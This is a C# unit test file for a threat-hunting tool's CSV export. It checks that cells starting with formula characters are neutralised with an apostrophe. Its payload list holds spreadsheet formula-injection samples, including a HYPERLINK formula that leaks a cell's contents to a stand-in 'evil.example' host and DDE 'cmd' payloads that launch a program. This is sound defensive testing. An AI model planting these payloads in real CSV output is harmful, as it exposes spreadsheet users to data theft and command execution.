using System.Text;

namespace Vigie.Hunt.Tests.Output;

/// <summary>
/// CSV formula injection: no cell Vigie writes may start with a character a spreadsheet reads as the start of a
/// formula (OWASP's list: = + - @ tab CR, and their full-width forms, which some spreadsheets fold to ASCII).
/// </summary>
public sealed class CsvFormulaTests
{
    /// <summary>Payloads seen in the wild, one per leading character of the OWASP list (and full-width variants).</summary>
    public static readonly string[] Payloads =
    [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")",
        "=0+HYPERLINK(\"http://evil.example\")",
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "-1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\r\n=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
    ];

    public static TheoryData<string> PayloadData => new(Payloads);

    [Theory, MemberData(nameof(PayloadData))]
    public void Guard_WhenACellStartsWithAnOwaspCharacter_PutsAnApostropheInFront(string payload)
    {
        Assert.True(CsvFormulaGuard.IsDangerous(payload));
        Assert.Equal("'" + payload, CsvFormulaGuard.Cell(payload));
    }

    [Theory]
    [InlineData("")]
    [InlineData("WS1.corp")]
    [InlineData("2024-02-11T08:00+01:00")]
    [InlineData("a=b+c-d@e")]
    [InlineData(" =1+1")]
    [InlineData("'=1+1")]
    [InlineData("Émilie")]
    public void Guard_WhenACellCannotBeReadAsAFormula_LeavesItAlone(string value)
    {
        Assert.False(CsvFormulaGuard.IsDangerous(value));
        Assert.Same(value, CsvFormulaGuard.Cell(value));
    }

    [Theory, MemberData(nameof(PayloadData))]
    public void HuntCsv_WhenAnyTextColumnStartsWithAFormulaCharacter_NoCellStartsWithIt(string payload)
    {
        var row = new HuntDetection
        {
            Timestamp = new DateTime(2024, 3, 1, 10, 0, 0, DateTimeKind.Utc),
            Computer = payload,
            Channel = payload,
            EventId = 4688,
            RuleTitle = payload,
            RuleId = payload,
            Level = HuntLevel.High,
            Tactics = [payload],
            Techniques = [payload],
            Author = payload,
            Details = [new(payload, payload)],
            SourceFile = payload,
        };
        using var stream = new MemoryStream();
        var sink = new CsvHuntSink(stream);
        sink.Write(row);
        sink.Complete(new HuntSummary { ByLevel = new Dictionary<HuntLevel, long>() });
        var text = Encoding.UTF8.GetString(stream.ToArray()).TrimStart('\uFEFF');

        var rows = ParseCsv(text, ',');
        Assert.Equal(2, rows.Count);
        var cells = rows[1];
        Assert.Equal(CsvHuntSink.Columns.Count, cells.Count);
        foreach (var cell in cells)
        {
            AssertSafe(cell);
        }

        Assert.Equal("'" + payload, cells[1]); // the value is kept, behind an apostrophe
    }

    /// <summary>Fails when <paramref name="cell"/> starts with a character a spreadsheet would read as a formula.</summary>
    private static void AssertSafe(string cell)
    {
        Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '\n' or '＝' or '＋' or '－' or '＠',
            $"a cell starts with a formula character: {cell}");
    }

    /// <summary>A small RFC 4180 reader (quoted fields, doubled quotes, CRLF) so the test reads cells as a spreadsheet does.</summary>
    private static List<List<string>> ParseCsv(string text, char separator)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"' && cell.Length == 0)
            {
                quoted = true;
            }
            else if (c == separator)
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n' || c == '\n')
            {
                i += c == '\r' ? 1 : 0;
                row.Add(cell.ToString());
                cell.Clear();
                rows.Add(row);
                row = [];
            }
            else
            {
                cell.Append(c);
            }
        }

        if (cell.Length > 0 || row.Count > 0)
        {
            row.Add(cell.ToString());
            rows.Add(row);
        }

        return rows;
    }
}
